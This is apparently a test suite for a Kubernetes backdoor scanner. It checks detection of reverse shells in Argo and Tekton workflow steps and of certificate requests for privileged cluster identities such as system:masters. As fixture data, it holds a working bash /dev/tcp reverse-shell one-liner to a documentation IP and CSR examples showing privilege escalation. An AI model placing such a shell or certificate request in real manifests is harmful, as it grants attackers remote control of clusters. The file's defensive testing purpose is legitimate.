import { describe, expect, test } from "vitest";
import { readDocuments } from "../../../kube/yaml/read-documents.ts";
import { readObjects } from "../../../kube/read-objects.ts";
import { objectIndex } from "../practices/object-index.ts";
import { backdoorFindings } from "./backdoor-findings.ts";

const found = (text: string) =>
  backdoorFindings(
    objectIndex(readObjects(readDocuments("a.yaml", new TextEncoder().encode(text))).objects, 37),
  ).map(({ code, path }) => `${code} ${path?.join(".") ?? ""}`);
const shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

describe("steps of custom resources", () => {
  test("are read wherever they stand: command, arguments, scripts", () => {
    expect(
      found(
        `apiVersion: argoproj.io/v1alpha1\nkind: WorkflowTemplate\nmetadata: {name: w, namespace: shop}\nspec: {templates: [{name: a, container: {image: a:1, command: [sh, -c], args: ["${shell}"]}}, {name: b, script: {image: a:1, command: [sh], source: "${shell}"}}]}`,
      ),
    ).toEqual([
      "backdoor/reverse-shell spec.templates.1.script.source",
      "backdoor/reverse-shell spec.templates.0.container.command",
    ]);
    expect(
      found(
        `apiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t, namespace: shop}\nspec: {steps: [{name: lint, image: a:1, script: "#!/bin/sh\\n${shell}"}]}`,
      ),
    ).toEqual(["backdoor/reverse-shell spec.steps.0.script"]);
  });

  test("a text that nothing runs is none", () => {
    expect(
      found(
        `apiVersion: example.com/v1\nkind: Note\nmetadata: {name: n, namespace: shop}\nspec: {image: a:1, text: "${shell}", inner: {command: ["${shell}"]}}`,
      ),
    ).toEqual([]);
  });

  test("neither depth nor breadth ends the program", () => {
    const deep = `${"{a: ".repeat(90)}1${"}".repeat(90)}`;
    expect(
      found(`apiVersion: example.com/v1\nkind: Note\nmetadata: {name: n, namespace: shop}\nspec: ${deep}`),
    ).toEqual([]);
  });
});

describe("identities", () => {
  const request = (subject: string, signer: string) =>
    `apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: c}\nspec: {signerName: ${signer}, request: ${btoa(`-----BEGIN CERTIFICATE REQUEST-----\n${btoa(subject)}\n-----END CERTIFICATE REQUEST-----`)}}`;
  const client = "kubernetes.io/kube-apiserver-client";

  test("of the system are not asked for, but by kubelets for nodes", () => {
    const code = ["backdoor/masters-certificate spec"];
    expect(found(request("0\u001csystem:kube-scheduler", client))).toEqual(code);
    expect(found(request("0\u001csystem:node:n1", "kubernetes.io/kubelet-serving"))).toEqual([]);
    expect(found(request("0\u001csystem:masters", "kubernetes.io/kubelet-serving"))).toEqual(code);
    expect(found(request("0\u001cbuild-bot", client))).toEqual([]);
  });

  test("nor by cert-manager", () => {
    const certificate = (spec: string) =>
      `apiVersion: cert-manager.io/v1\nkind: Certificate\nmetadata: {name: c, namespace: shop}\nspec: {secretName: s, issuerRef: {name: i}, ${spec}}`;
    expect(found(certificate("subject: {organizations: ['system:masters']}, commonName: a"))).toHaveLength(1);
    expect(found(certificate("commonName: 'system:kube-controller-manager'"))).toHaveLength(1);
    expect(found(certificate("commonName: shop.example.com, dnsNames: [shop.example.com]"))).toEqual([]);
  });
});
